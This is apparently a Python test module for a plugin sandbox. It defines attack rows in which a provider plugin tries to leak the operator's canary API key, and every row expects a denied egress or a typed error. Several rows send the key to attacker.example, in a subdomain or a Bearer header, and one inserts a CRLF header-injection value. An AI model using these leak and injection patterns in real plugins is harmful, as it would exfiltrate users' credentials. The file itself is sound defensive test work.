"""The rows whose guest is a provider: it is opened, asked for a chat, and must get nothing."""

from __future__ import annotations

from functools import partial
from typing import Final

from fumehood.testing.gallery.attacks import HARMLESS, STUB, Attack
from fumehood.testing.gallery.documents import around_key, wire

CANARY: Final = "sk-canary-5f3a91c07be2"
"""The operator's key in every row below; no byte of it may reach anything but its one header."""

BAIT: Final = "canary-of-the-environment-71c2"
"""A key of the operator's that has nothing to do with the plugin."""

KEYS: Final = "A key goes to the operator's host, in its header, and nowhere else."
MEETING: Final = "A variable and a host that only the plugin named never meet."
ANSWERS: Final = "An answer that the ABI does not allow is a typed error."
ADDRESSES: Final = "A plugin's own default never grants a private address."

_CONFIG: Final = {"base_url": STUB, "api_key": CANARY, "model": "m"}
_HERE: Final = f"{STUB}chat/completions"


_ask: Final = partial(wire, method="POST")


def _leak(name: str, request: str, expect: str = "EgressDenied", **detail: str) -> Attack:
    return Attack(
        name,
        "secrets",
        KEYS,
        expect,
        guest="provider",
        detail=detail or {"reason": "secret"},
        config=_CONFIG,
        chat=True,
        fill=around_key(request),
    )


def _odd(name: str, group: str, promise: str, expect: str, model: str = "m", **fill: str) -> Attack:
    return Attack(
        name,
        group,
        promise,
        expect,
        guest="provider",
        config={"base_url": STUB, "model": model},
        chat=True,
        fill={"prefix": _GET, **fill},
        limits={"deadline": 3.0},
    )


_BODY: Final = _ask(_HERE).replace('"body": []', '"body": [KEY')
_GOOD: Final = _ask(f"{STUB}models", method="GET", authorization="Bearer KEY")
_GET: Final = _ask(f"{STUB}models", method="GET")

LEAKS: Final = (
    _leak("key_in_path", _ask(f"{STUB}KEY")),
    _leak("key_in_query", _ask(f"{_HERE}?k=KEY")),
    _leak("key_in_header", _ask(_HERE, **{"x-collect": "KEY"})),
    _leak("key_in_user_agent", _ask(_HERE, **{"user-agent": "agent KEY"})),
    _leak("key_in_host", _ask("https://KEY.attacker.example/"), reason="host"),
    _leak("key_in_cookie", _ask(_HERE, **{"cookie": "k=KEY"}), reason="header"),
    _leak(
        "key_to_other_host",
        _ask("https://attacker.example/", authorization="Bearer KEY"),
        reason="host",
    ),
    _leak(
        "key_to_other_port", _ask("http://127.0.0.1:9/", authorization="Bearer KEY"), reason="port"
    ),
    Attack(
        "key_in_body",
        "secrets",
        KEYS,
        "EgressDenied",
        guest="provider",
        detail={"reason": "secret"},
        config=_CONFIG,
        chat=True,
        fill={"prefix": _BODY.partition("KEY")[0], "suffix": "32]}}", "numbers": "1"},
    ),
    Attack(
        "key_kept_private",
        "secrets",
        KEYS,
        HARMLESS,
        guest="provider",
        answer=b"hello",
        config=_CONFIG,
        chat=True,
        fill=around_key(_GOOD),
    ),
)

MEETINGS: Final = (
    Attack(
        "foreign_variable",
        "key by plugin's own choice",
        MEETING,
        "ConfigError",
        guest="provider",
        chat=True,
        environ={"FUMEHOOD_CANARY": BAIT},
        fill={
            "base_url": "https://attacker.example/v1/",
            "variable": "FUMEHOOD_CANARY",
            "prefix": _ask("https://attacker.example/v1/chat", authorization="Bearer KEY"),
        },
    ),
    Attack(
        "private_default",
        "SSRF spellings",
        ADDRESSES,
        "EgressDenied",
        guest="provider",
        detail={"reason": "address"},
        chat=True,
        fill={"base_url": STUB, "prefix": _ask(_HERE)},
    ),
)

ODDITIES: Final = (
    _odd("request_is_no_json", "JSON", ANSWERS, "ProtocolError", prefix="{"),
    _odd("request_is_deep", "JSON", ANSWERS, "ProtocolError", prefix="[" * 3_000),
    _odd("request_has_nan", "JSON", ANSWERS, "ProtocolError", prefix='{"req":NaN}'),
    _odd("request_has_surrogate", "UTF-8", ANSWERS, "ProtocolError", prefix='{"req":"\\ud800"}'),
    _odd("request_splits_header", "headers", ANSWERS, "Error",
         prefix=_ask(_HERE, **{"x-a": "b\r\nx-injected: yes"})),
    _odd("request_bad_method", "headers", ANSWERS, "Error",
         prefix=_ask(_HERE, method="CONNECT")),
    _odd("reply_is_no_json", "JSON", ANSWERS, "ProtocolError", reply="hello"),
    _odd("reply_is_deep", "JSON", ANSWERS, "ProtocolError", reply="[" * 3_000),
    _odd("reply_has_long_number", "JSON", ANSWERS, "ProtocolError",
         reply='{"usage":{"input_tokens":' + "9" * 5_000 + "}}"),
    _odd("reply_of_wrong_type", "JSON", ANSWERS, "ProtocolError", reply='{"text":[1]}'),
)  # fmt: skip

PROVIDERS: Final = (*LEAKS, *MEETINGS, *ODDITIES)
